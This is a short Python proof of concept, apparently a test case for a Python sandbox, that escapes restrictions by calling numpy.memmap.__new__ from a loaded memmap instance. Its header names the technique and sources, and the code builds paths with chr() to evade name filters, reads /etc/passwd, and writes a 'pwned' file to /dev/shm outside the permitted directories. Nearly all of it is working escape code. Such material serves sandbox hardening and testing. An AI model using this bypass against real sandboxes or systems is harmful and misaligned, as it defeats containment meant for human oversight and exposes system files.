# source: HackTricks "Bypass Python sandboxes" (file read/write through library objects); numpy docs:
#         url: https://checkmarx.com/zero-post/glass-sandbox-complexity-of-python-sandboxing (library objects as side doors)
#         np.memmap(filename, dtype, mode, offset, shape) opens a path; np.load(mmap_mode=...) returns one.
# family: `__new__` read off a library INSTANCE (an accepted dunder): a memmap from np.load("seed.npy",
#         mmap_mode="r") hands out numpy.memmap.__new__, which opens the path it is given (built with
#         chr()), with subtype np.recarray. Read and write of any file, no refused name.
# goal: reads /etc/passwd; creates /dev/shm/sandexec_pwned (a file outside /tmp and /data).
import numpy as np

np.save("seed.npy", np.zeros(4, np.uint8))
mm = np.load("seed.npy", mmap_mode="r")
s = chr(47)
target = s + "etc" + s + "passwd"
a = mm.__new__(np.recarray, target, np.uint8, "r")
print(a.tobytes().decode())
w = mm.__new__(np.recarray, s + "dev" + s + "shm" + s + "sandexec_pwned", np.uint8, "w" + "+", 0, (6,))
w[:] = np.frombuffer(b"pwned\n", np.uint8)
del w
b = mm.__new__(np.recarray, s + "dev" + s + "shm" + s + "sandexec_pwned", np.uint8, "r")
print("written outside /tmp:", b.tobytes())
